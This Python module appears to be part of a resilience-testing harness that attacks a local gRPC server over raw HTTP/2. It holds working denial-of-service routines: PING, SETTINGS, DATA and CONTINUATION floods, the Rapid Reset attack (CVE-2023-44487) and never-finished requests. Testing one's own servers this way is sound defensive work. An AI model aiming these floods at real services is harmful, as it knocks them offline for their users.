"""Hostile callers that speak HTTP/2 themselves: floods of frames, and requests that never end."""

from __future__ import annotations

import contextlib
import random
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator

from campaigns.hostile_target import METHODS, Target

_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS = 4


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
_PATH = METHODS + b"Generate"
# POST, http, the path, an authority and the content type, as HPACK without its dynamic table.
_REQUEST = b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"


def _flood(target: Target, frames: Callable[[], Iterator[bytes]]) -> int:
    """Send frames without a pause, over one connection after another."""
    count = 0
    while not (count and target.is_over):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.data), 5) as connection:
            connection.settimeout(1.0)
            connection.sendall(_PREFACE)
            for data in frames():
                connection.sendall(data)
                count += 1
                if _receive_now(connection) == b"" or target.is_over:
                    break
        time.sleep(0.01)  # do not spin on refused connections
    return count


def _receive_now(connection: socket.socket) -> bytes | None:
    """Return the bytes received so far without waiting: empty at the end of the stream, None if there are none."""
    return connection.recv(65536) if select.select([connection], [], [], 0)[0] else None


def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        yield first
        while True:
            yield data

    return frames


def frames_of_pings(target: Target) -> int:
    """Send PING frames for ever."""
    return _flood(target, _endless(_frame(_PING, 0, 0, bytes(8)) * 100))


def frames_of_settings(target: Target) -> int:
    """Send SETTINGS frames for ever."""
    return _flood(target, _endless(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 50)) * 100))


def frames_of_empty_data(target: Target) -> int:
    """Send empty DATA frames for one request for ever."""
    return _flood(target, _endless(_frame(_DATA, 0, 1) * 100, _frame(_HEADERS, _END_HEADERS, 1, _REQUEST)))


def frames_of_continuations(target: Target) -> int:
    """Send a header block that never ends."""
    field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
    return _flood(target, _endless(_frame(_CONTINUATION, 0, 1, field), _frame(_HEADERS, 0, 1, _REQUEST)))


def frames_of_resets(target: Target) -> int:
    """Reset requests right after their headers (CVE-2023-44487)."""

    def frames() -> Iterator[bytes]:
        stream = 1
        while True:
            data = b""
            for _ in range(20):
                data += _frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + _frame(_RESET, 0, stream, bytes(3) + b"\x08")
                stream += 2
            yield data

    return _flood(target, frames)


def unfinished_requests(target: Target) -> int:
    """Start messages and never complete them, as many as the server accepts."""
    held: list[socket.socket] = []
    count = 0
    rng = random.Random(target.data)
    while not target.is_over:
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.data), 5)
            connection.settimeout(0.5)
            held.append(connection)
            connection.sendall(_PREFACE)
            window = [65535]
            for stream in range(1, 257, 2):
                connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, _REQUEST))
                connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 900_000)))
                count += 1
            started_at = time.monotonic()
            while time.monotonic() - started_at < 2 and not target.is_over:
                _take_windows(connection, window)
                if window[0] < 16384:
                    time.sleep(0.01)
                    continue
                connection.sendall(_frame(_DATA, 0, 1 + 2 * rng.randrange(128), bytes(8192)))
                window[0] -= 8192
        while len(held) > 16:
            held.pop(0).close()
    return count


def _take_windows(connection: socket.socket, window: list[int]) -> None:
    """Read window updates of the connection and add them to `window[0]`."""
    data = _receive_now(connection) or b""
    while len(data) >= 9:
        length, kind, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
        if kind == _WINDOW and stream == 0 and len(data) >= 13:
            window[0] += int.from_bytes(data[9:13], "big")
        data = data[9 + length :]
